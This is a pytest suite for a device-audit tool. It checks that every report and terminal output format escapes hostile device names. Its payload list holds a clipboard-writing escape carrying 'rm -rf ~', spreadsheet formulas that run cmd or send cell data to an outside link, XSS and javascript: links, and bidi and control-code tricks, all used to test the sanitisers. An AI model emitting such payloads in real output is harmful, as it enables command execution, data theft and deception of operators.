"""Device text made inert (issue 13, item 4): each output function, then every audit report
format and the tables on a host whose names and subject are hostile."""

from __future__ import annotations

import csv
import io
import logging

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pssc.audit.model import AuditReport, HostAudit
from pssc.audit.report import render
from pssc.audit.rules import evaluate
from pssc.cli import main
from pssc.output.safe import SafeFormatter, csv_cell, markdown, one_line, terminal
from pssc.output.table import render_table
from pssc.rollout.report import render as rollout_table
from pssc.rollout.report import would_send
from tasks.rollout import HostOutcome
from tests.inert import (
    assert_csv_inert,
    assert_html_inert,
    assert_json_inert,
    assert_markdown_inert,
    assert_terminal_inert,
)
from tests.unit.pssc.audit.factories import OPTS, cert, healthy, trustpoint

OSC52 = "\x1b]52;c;cm0gLXJmIH4K\x07"  # writes the operator's clipboard
HYPERLINK = '=HYPERLINK("http://x/?"&A2,"open")'
HOSTILE = (
    f"TP{OSC52}",
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tTAB",
    "\rCR",
    "<img src=x onerror=alert(1)>",
    "x\x1b[2J\x9b31m\u202eevil",
    "[click](javascript:alert(1))",
)


def test_terminal_escapes_every_control_but_newline() -> None:
    text = "".join(map(chr, range(0x00, 0xA0))) + "\u202e\u2066"
    out = terminal(text)
    assert_terminal_inert(out)
    assert "\n" in out and "\\x1b" in out and "\\x9b" in out and "\\u202e" in out
    assert "\n" not in one_line(text)


@given(st.text())
def test_any_text_is_inert_everywhere(text: str) -> None:
    assert_terminal_inert(terminal(text))
    assert_terminal_inert(one_line(text))
    assert "\n" not in one_line(text)
    assert not csv_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert_markdown_inert(markdown(text))
    assert "\n" not in markdown(text)


@pytest.mark.parametrize("cell", HOSTILE)
def test_csv_cell_is_never_a_formula(cell: str) -> None:
    assert_csv_inert(csv_cell(cell))


def _hostile_report() -> AuditReport:
    hosts = []
    for i, name in enumerate(HOSTILE):
        subject = f"cn={name}"
        tp = trustpoint(name, saved=False, certificate=cert(subject=subject, issuer=subject))
        hosts.append(
            healthy(
                f"H{i}",
                device_hostname=name,
                trustpoints=(tp,),
                secure_trustpoint=name,
                https_trustpoint=name,
                error=name,
            )
        )
    audits = tuple(HostAudit(h, tuple(evaluate(h, OPTS))) for h in hosts)
    return AuditReport("2026-06-01T12:00:00Z", audits, {})


def test_every_audit_format_is_inert() -> None:
    report = _hostile_report()
    assert_csv_inert(render(report, "csv"))
    assert_markdown_inert(render(report, "md"))
    assert_html_inert(render(report, "html"))
    assert_json_inert(render(report, "json"))
    table = render(report, "table")
    assert_terminal_inert(table)
    assert "\\x1b]52" in table  # shown, escaped: the attempt is visible


def test_csv_keeps_the_text_behind_the_quote() -> None:
    report = _hostile_report()
    rows = list(csv.DictReader(io.StringIO(render(report, "csv"))))
    messages = " ".join(r["message"] for r in rows)
    assert "HYPERLINK" in messages
    assert any(r["trustpoint"] == "'" + HYPERLINK for r in rows)


def test_rollout_table_and_dry_run_cli_are_inert() -> None:
    outcomes = [
        HostOutcome(
            host=f"H{i}",
            status="failed",
            trustpoint=name,
            error=f"% Invalid {name}",
            cli=[f"crypto pki enroll {name}"],
        )
        for i, name in enumerate(HOSTILE)
    ]
    assert_terminal_inert(rollout_table(outcomes, dry_run=False, width=120))
    assert_terminal_inert(would_send(outcomes))


def test_any_table_cell_is_inert() -> None:
    text = render_table("t", ["a", "b"], [[name, name] for name in HOSTILE], color=False)
    assert_terminal_inert(text)


def test_log_lines_are_inert() -> None:
    record = logging.makeLogRecord({"msg": "%s: %s", "args": ("R1", OSC52)})
    assert_terminal_inert(SafeFormatter(logging.Formatter("%(message)s")).format(record))


def test_the_one_line_error_is_inert(capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["rollout", "-i", f"/nonexistent/{OSC52}\nfake: line", "--no-pins"])
    err = capsys.readouterr().err
    assert code == 2 and err.count("\n") == 1
    assert_terminal_inert(err)
